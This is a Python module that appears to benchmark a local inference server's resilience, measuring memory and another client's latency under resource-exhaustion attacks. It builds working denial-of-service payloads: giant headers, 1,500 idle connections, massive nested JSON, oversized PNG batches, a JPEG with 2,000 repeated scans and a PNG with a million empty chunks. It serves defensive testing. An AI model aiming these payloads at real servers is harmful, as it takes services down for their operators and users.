"""Attacks that are cheap for a client, and their effect on another.

Requests that cost the client little and a server without limits much.
"""

import io
import resource
import socket
import statistics
import struct
import threading
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from pathlib import Path

from http_requests import FORM, form, request
from load import Reply
from PIL import Image

SIDE = 5000  # the largest square that is read
_PATIENCE_S = 60.0
_PART = b'--b\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\n%b\r\n'

Attack = Callable[[int], Sequence[bytes]]
"""What several connections to a port send at once, a request each; an empty one stays idle."""


@dataclass(frozen=True)
class Effect:
    """The effect of an attack.

    Its answers, its time, the server's memory at most, and another client's requests.
    """

    answers: Counter[int]
    seconds: float
    before_mib: float
    peak_mib: float
    others: Sequence[Reply]

    @property
    def worst_s(self) -> float:
        """Return the longest wait of the other client."""
        return max(reply.seconds for reply in self.others)

    @property
    def refused(self) -> int:
        """Count the other client's requests that were not answered."""
        return sum(reply.status != 200 for reply in self.others)


def attacks() -> dict[str, Attack]:
    """Return the attacks by name; files are made when they are sent."""
    return {
        "200 MiB of a header": lambda port: [_get(port) + b"X: " + b"a" * (200 * 2**20)],
        "1,500 idle connections": lambda port: [b""] * 1500,
        "a Content-Type of 1 MiB": lambda port: [request(port, "/predict", FORM + ";" * 2**20, b"a")],
        "30 MiB of lists in JSON": lambda port: [_json(port, b'{"images": [' + b"[]," * (10 * 2**20) + b"[]]}")],
        "30 MiB of lists as a tensor": lambda port: [
            request(port, "/v2/models/benchmark/infer", "application/json", _tensor(b"[0]," * (7 * 2**20) + b"[0]"))
        ],
        "64 PNGs of 25 megapixels": lambda port: [_form(port, [_large("RGB")] * 64)],
        "the same in 1 bit, three times": lambda port: [_form(port, [_large("1")] * 64)] * 3,
        "4 of them, three times": lambda port: [_form(port, [_large("RGB")] * 4)] * 3,
        "a JPEG of 2,000 scans": lambda port: [request(port, "/predict", "image/jpeg", _scans(2000))],
        "a PNG of a million chunks": lambda port: [request(port, "/predict", "image/png", _chunks(2**20))],
    }


def measure_attack(attack: Attack, port: int, pid: int, around_s: float) -> Effect:
    """Attack the server while another client asks about a small image.

    That one asks for `around_s` before and after the attack, too.
    """
    contents = attack(port)
    before, others, ended = _memory_mib(pid, "VmRSS"), list[Reply](), threading.Event()
    other = threading.Thread(target=lambda: others.extend(_until(ended, port)))
    other.start()
    time.sleep(around_s)
    start = time.monotonic()
    answers = Counter(_send_all(port, contents))
    seconds = time.monotonic() - start
    time.sleep(around_s)
    ended.set()
    other.join()
    return Effect(answers, seconds, before, _memory_mib(pid, "VmHWM"), others)


def row(name: str, effect: Effect) -> dict[str, str]:
    """Return a line of the table."""
    times = [reply.seconds * 1000 for reply in effect.others]
    return {
        "attack": name,
        "answers": ", ".join(f"{count} x {status or 'hung up'}" for status, count in sorted(effect.answers.items())),
        "seconds": f"{effect.seconds:.1f}",
        "memory, MiB": f"{effect.before_mib:.0f} to {effect.peak_mib:.0f}",
        "another client waits, ms": f"{statistics.median(times):.1f} (at most {max(times):,.0f})",
        "and is refused": f"{effect.refused} of {len(times)}",
    }


def _until(ended: threading.Event, port: int) -> Iterator[Reply]:
    """Send ten requests a second of one client, until `ended`.

    Each on a connection of its own.
    """
    while not ended.wait(0.1):
        asked, status = time.perf_counter(), [0]
        # a new connection each time: a client that comes new is what an attack on connections would keep out
        with suppress(OSError), _connected(port) as client:
            _ask(client, form(port), status, 0)
        yield Reply(status[0], asked, time.perf_counter() - asked, b"")


def _send_all(port: int, contents: Sequence[bytes]) -> list[int]:
    """Return the statuses of the answers, 0 where there was none."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    # 1,500 connections are more files than most shells allow
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, len(contents) + 256)), hard))
    with ExitStack() as stack:
        clients = [stack.enter_context(_connected(port)) for _ in contents]
        statuses = [0] * len(contents)
        asking = [
            threading.Thread(target=_ask, args=[client, content, statuses, index])
            for index, (client, content) in enumerate(zip(clients, contents, strict=True))
            if content
        ]
        for thread in asking:
            thread.start()
        for thread in asking:
            thread.join()
        if not asking:
            time.sleep(3)
    return statuses


def _connected(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), _PATIENCE_S)


def _ask(client: socket.socket, content: bytes, statuses: list[int], index: int) -> None:
    with suppress(OSError):  # it may be hung up on while it sends, and have an answer all the same
        client.sendall(content)
    with suppress(OSError):
        # "HTTP/1.1 200": the status lies in bytes 9 to 12
        statuses[index] = int(client.recv(4096)[9:12] or 0)


def _memory_mib(pid: int, field: str) -> float:
    lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    return next(int(line.split()[1]) / 2**10 for line in lines if line.startswith(field))


def _get(port: int) -> bytes:
    return f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n".encode()


def _json(port: int, body: bytes) -> bytes:
    return request(port, "/predict", "application/json", body)


def _tensor(data: bytes) -> bytes:
    return b'{"inputs": [{"name": "images", "datatype": "UINT8", "shape": [1], "data": [' + data + b"]}]}"


def _form(port: int, files: Sequence[bytes]) -> bytes:
    return request(port, "/predict", FORM, b"".join(_PART % file for file in files) + b"--b--\r\n")


def _large(mode: str) -> bytes:
    return _encoded(Image.new(mode, (SIDE, SIDE)), "PNG")


def _scans(count: int) -> bytes:
    """Make a progressive JPEG whose last scan comes again and again."""
    content = _encoded(Image.new("L", (SIDE, SIDE)), "JPEG", progressive=True)
    last = content.rindex(b"\xff\xda")
    return content[:last] + content[last:-2] * count + content[-2:]


def _chunks(count: int) -> bytes:
    """Make a PNG with empty chunks before its pixels."""
    content = _encoded(Image.new("L", (8, 8)), "PNG")
    empty = struct.pack(">I", 0) + b"prVt" + struct.pack(">I", zlib.crc32(b"prVt"))
    # 8 bytes of signature and 25 of the header come first
    return content[:33] + empty * count + content[33:]


def _encoded(image: Image.Image, kind: str, **options: bool) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, kind, **options)
    return buffer.getvalue()
